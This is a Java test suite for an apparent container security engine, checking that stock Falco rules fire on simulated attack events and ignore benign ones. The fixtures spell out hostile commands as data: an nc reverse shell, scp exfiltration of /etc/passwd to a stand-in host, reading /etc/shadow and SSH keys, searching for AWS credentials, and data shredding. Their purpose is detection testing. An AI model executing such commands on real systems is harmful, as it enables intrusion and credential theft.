package dev.vigil.rules.engine;

import static dev.vigil.rules.testing.Events.*;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.event.Event;
import dev.vigil.event.FileOp;
import dev.vigil.event.NetOp;
import dev.vigil.event.SockAddr;
import dev.vigil.rules.testing.Events;
import dev.vigil.rules.testing.TestEngine;
import java.util.List;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hand-built events against the three stock Falco rules files loaded together: each attack fires its rule,
 * benign activity fires nothing. Events are built as the state layer would emit them.
 */
class StockRulesFireTest {
    private static RuleEngine engine;

    @BeforeAll
    static void load() {
        engine = RuleEngine.load(List.of(StockRules.falco(), StockRules.incubating(), StockRules.sandbox()),
                TestEngine.options());
        assertThat(engine.errors()).isEmpty();
    }

    private static final long LONG_AGO = T0 - 600_000_000_000L;

    private static Events.P shellUnder(String parentName, String parentExe) {
        return proc("bash").exe("/bin/bash").parent(parentName, parentExe).parent("runc:[1:CHILD]", "/usr/bin/runc");
    }

    static Stream<Arguments> attacks() {
        return Stream.of(
            c("Read sensitive file untrusted", () -> open(proc("python3").args("python3", "steal.py"), "/etc/shadow", O_RDONLY)),
            c("Read sensitive file trusted after startup", () -> open(proc("nginx").started(LONG_AGO).parent("nginx", "/usr/sbin/nginx"), "/etc/shadow", O_RDONLY)),
            c("Run shell untrusted", () -> exec(proc("sh").exe("/bin/sh").args("sh", "-c", "id").parent("nginx", "/usr/sbin/nginx"))),
            c("System user interactive", () -> exec(proc("bash").exe("/bin/bash").user(33).parent("sshd", "/usr/sbin/sshd"))),
            c("Terminal shell in container", () -> exec(proc("bash").exe("/bin/bash").tty("/dev/pts/0").parent("runc:[1:CHILD]", "/usr/bin/runc"))),
            c("Contact K8S API Server From Container", () -> connect(proc("python3"), "10.96.0.1", 443, "kubernetes.default.svc.cluster.local")),
            c("Netcat Remote Code Execution in Container", () -> exec(proc("nc").args("nc", "-e", "/bin/sh", "203.0.113.9", "4444"))),
            c("Search Private Keys or Passwords", () -> exec(proc("find").args("find", "/", "-name", "id_rsa"))),
            c("Clear Log Activities", () -> open(proc("python3"), "/var/log/auth.log", O_WRONLY | O_TRUNC)),
            c("Remove Bulk Data from Disk", () -> exec(proc("shred").args("shred", "-u", "/data/db"))),
            c("Create Symlink Over Sensitive Files", () -> fileOp(proc("ln"), "symlinkat", FileOp.Op.SYMLINK, "/tmp/s", "/etc/shadow")),
            c("Create Hardlink Over Sensitive Files", () -> fileOp(proc("ln"), "linkat", FileOp.Op.LINK, "/etc/shadow", "/tmp/h")),
            c("Packet socket created in container", () -> socket(proc("python3"), "packet", "raw")),
            c("PTRACE attached to process", () -> ptrace(proc("gdb"), 1, 16)),
            c("PTRACE anti-debug attempt", () -> ptrace(proc("malware"), 0, 0)),
            c("Find AWS Credentials", () -> exec(proc("find").args("find", "/home", "-path", "*/.aws/credentials"))),
            c("Execution from /dev/shm", () -> exec(proc("x").exe("/dev/shm/x").args("/dev/shm/x"))),
            c("Fileless execution via memfd_create", () -> filelessExec(proc("kworker").exe("/memfd:payload (deleted)"))),
            c("Modify Shell Configuration File", () -> open(proc("python3"), "/root/.bashrc", O_WRONLY | O_APPEND())),
            c("Schedule Cron Jobs", () -> exec(proc("crontab").args("crontab", "-e"))),
            c("Read ssh information", () -> open(proc("cat").args("cat", "/root/.ssh/id_rsa"), "/root/.ssh/id_rsa", O_RDONLY)),
            c("DB program spawned process", () -> exec(proc("bash").exe("/bin/bash").parent("mysqld", "/usr/sbin/mysqld"))),
            c("Unexpected UDP Traffic", () -> udpConnect(proc("python3"), "198.51.100.7", 9999)),
            c("Non sudo setuid", () -> setuid(proc("exploit").user(1000), 0)),
            c("Create files below dev", () -> open(proc("python3"), "/dev/evil", O_WRONLY | O_CREAT)),
            c("Contact EC2 Instance Metadata Service From Container", () -> connect(proc("curl"), "169.254.169.254", 80)),
            c("Contact cloud metadata service from container", () -> connect(proc("curl"), "169.254.169.254", 80)),
            c("Launch Package Management Process in Container", () -> exec(proc("apt-get").args("apt-get", "install", "nmap").parent("bash", "/bin/bash"))),
            c("Launch Suspicious Network Tool in Container", () -> exec(proc("nmap").args("nmap", "-sS", "10.0.0.0/24"))),
            c("Delete or rename shell history", () -> fileOp(proc("rm"), "unlinkat", FileOp.Op.UNLINK, "/root/.bash_history", null)),
            c("Set Setuid or Setgid bit", () -> chmod(proc("chmod"), "fchmodat", "/tmp/rootshell", 04755)),
            c("Launch Remote File Copy Tools in Container", () -> exec(proc("scp").args("scp", "/etc/passwd", "evil@203.0.113.9:"))),
            c("Launch Ingress Remote File Copy Tools in Container", () -> exec(proc("wget").args("wget", "http://203.0.113.9/x"))),
            c("Read environment variable from /proc files", () -> open(proc("cat").args("cat", "/proc/1/environ"), "/proc/1/environ", O_RDONLY)),
            c("Adding ssh keys to authorized_keys", () -> open(proc("python3"), "/root/.ssh/authorized_keys", O_WRONLY | O_APPEND())),
            c("Backdoored library loaded into SSHD (CVE-2024-3094)", () -> open(proc("sshd").exe("/usr/sbin/sshd"), "/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.0", O_RDONLY | O_CLOEXEC)),
            c("Write below binary dir", () -> open(proc("python3"), "/usr/bin/evil", O_WRONLY | O_CREAT)),
            c("Write below etc", () -> open(proc("python3"), "/etc/ld.so.preload", O_WRONLY | O_CREAT)),
            c("Write below root", () -> open(proc("python3"), "/root/evil.sh", O_WRONLY | O_CREAT)),
            c("Write below rpm database", () -> open(proc("python3"), "/var/lib/rpm/Packages", O_RDWR)),
            c("Modify binary dirs", () -> fileOp(proc("mv"), "renameat2", FileOp.Op.RENAME, "/usr/bin/ls", "/usr/bin/ls.bak")),
            c("Mkdir binary dirs", () -> fileOp(proc("mkdir"), "mkdirat", FileOp.Op.MKDIR, "/usr/bin/.hidden", null)),
            c("Detect crypto miners using the Stratum protocol", () -> exec(proc("miner").args("miner", "-o", "stratum+tcp://pool.example:3333"))),
            c("Kubernetes Client Tool Launched in Container", () -> exec(proc("kubectl").args("kubectl", "get", "secrets"))),
            c("Sudo Potential Privilege Escalation", () -> exec(proc("sudoedit").user(1000).loginUid(1000).args("sudoedit", "-s", "\\"))),
            c("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", () -> exec(proc("pkexec").user(1000).loginUid(1000).args("pkexec"))),
            c("Decoding Payload in Container", () -> exec(proc("base64").args("base64", "-d", "/tmp/p"))),
            c("Basic Interactive Reconnaissance", () -> exec(proc("whoami").tty("/dev/pts/1"))),
            c("Known Cryptominer Process Executed", () -> exec(proc("xmrig").args("xmrig", "--donate-level", "1"))),
            c("Web Server Spawned Shell", () -> exec(proc("sh").exe("/bin/sh").args("sh", "-c", "cat /etc/passwd").parent("nginx", "/usr/sbin/nginx"))),
            c("Web Server Spawned Suspicious Child Process", () -> exec(proc("whoami").parent("php-fpm", "/usr/sbin/php-fpm"))),
            c("Reverse Shell from Web Server", () -> exec(proc("bash").exe("/bin/bash").args("bash", "-i").parent("nginx", "/usr/sbin/nginx"))),
            c("Privileged Container Device Access", () -> open(proc("dd"), "/dev/sda", O_RDONLY)),
            c("Container Access to Host Sensitive Paths", () -> open(proc("cat"), "/host/etc/shadow", O_RDONLY)));
    }

    private static int O_APPEND() { return 02000; }

    private static NetOp udpConnect(Events.P p, String ip, int port) {
        return new NetOp(header(), p.build(), "connect", NetOp.Op.CONNECT, 7, "inet", "dgram", "udp",
                new SockAddr("inet", "172.17.0.5", 40000), new SockAddr("inet", ip, port), List.of(), 0);
    }

    private static Arguments c(String rule, Supplier<Event> event) {
        return Arguments.of(rule, event);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void attack_fires_its_rule(String rule, Supplier<Event> event) {
        assertThat(engine.rule(rule)).as("rule '%s' is loaded", rule).isNotNull();
        assertThat(engine.rule(rule).enabled()).as("rule '%s' is enabled", rule).isTrue();
        assertThat(TestEngine.fired(engine, event.get())).contains(rule);
    }

    static Stream<Arguments> benign() {
        return Stream.of(
            Arguments.of("app reads its config", (Supplier<Event>) () -> open(proc("java").parent("sh", "/bin/sh"), "/app/config/application.yaml", O_RDONLY)),
            Arguments.of("app writes a temp file", (Supplier<Event>) () -> open(proc("java"), "/tmp/cache-1.bin", O_WRONLY | O_CREAT)),
            Arguments.of("app connects to its database", (Supplier<Event>) () -> connect(proc("java"), "10.0.3.17", 5432, "db.internal")),
            Arguments.of("app connects to an https API", (Supplier<Event>) () -> connect(proc("java"), "93.184.216.34", 443, "api.example.com")),
            Arguments.of("app resolves a name", (Supplier<Event>) () -> dnsQuery(proc("java"), "api.example.com")),
            Arguments.of("entrypoint starts the app", (Supplier<Event>) () -> exec(proc("java").args("java", "-jar", "/app/app.jar").parent("sh", "/bin/sh"))),
            Arguments.of("app lists a directory", (Supplier<Event>) () -> exec(proc("ls").args("ls", "/app").parent("java", "/usr/bin/java"))),
            Arguments.of("app listens", (Supplier<Event>) () -> listen(proc("java"), 8080)),
            Arguments.of("app exits", (Supplier<Event>) () -> exit(proc("java"), 0)),
            Arguments.of("app renames its own file", (Supplier<Event>) () -> fileOp(proc("java"), "renameat2", FileOp.Op.RENAME, "/tmp/a.part", "/tmp/a")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("benign")
    void benign_activity_fires_nothing(String what, Supplier<Event> event) {
        assertThat(TestEngine.fired(engine, event.get())).isEmpty();
    }

    @Test
    void host_only_rules_do_not_fire_in_a_container() {
        // 'User mgmt binaries' requires 'not container': Vigil's events always come from a container
        assertThat(TestEngine.fired(engine, exec(proc("useradd").args("useradd", "x").parent("bash", "/bin/bash"))))
                .doesNotContain("User mgmt binaries");
    }

    @Test
    void container_entrypoint_is_not_a_sensitive_mount_container() {
        // container.mount.dest[...] is "<NA>" (no host mounts), so sensitive_mount is false
        Event pid1 = exec(proc("java").pid(1).args("java", "-jar", "app.jar"));
        assertThat(TestEngine.fired(engine, pid1)).doesNotContain("Launch Sensitive Mount Container",
                "Launch Disallowed Container", "Launch Privileged Container");
    }

    @Test
    void open_seen_at_entry_only_does_not_satisfy_fd_num_checks() {
        // open_read needs fd.num>=0: without the result the stock rule cannot fire (see docs/RULES.md)
        assertThat(TestEngine.fired(engine, openEntry(proc("python3"), "/etc/shadow", O_RDONLY)))
                .doesNotContain("Read sensitive file untrusted");
        assertThat(engine.syscallsNeedingResult()).contains("openat", "connect");
        assertThat(engine.needsDnsNames()).isTrue(); // Contact K8S API Server From Container reads fd.sip.name
    }

    @Test
    void first_match_mode_reports_one_rule_per_event() {
        RuleEngine first = RuleEngine.load(List.of(StockRules.falco()), TestEngine.options().withMatching(RuleMatching.FIRST));
        Event e = exec(proc("bash").exe("/bin/bash").tty("/dev/pts/0").parent("nginx", "/usr/sbin/nginx"));
        assertThat(TestEngine.fired(first, e)).hasSize(1);
        assertThat(TestEngine.fired(engine, e).size()).isGreaterThan(1);
    }

    @Test
    void at_least_thirty_stock_rules_are_covered() {
        assertThat(attacks().map(a -> a.get()[0]).distinct().count()).isGreaterThanOrEqualTo(30);
    }
}
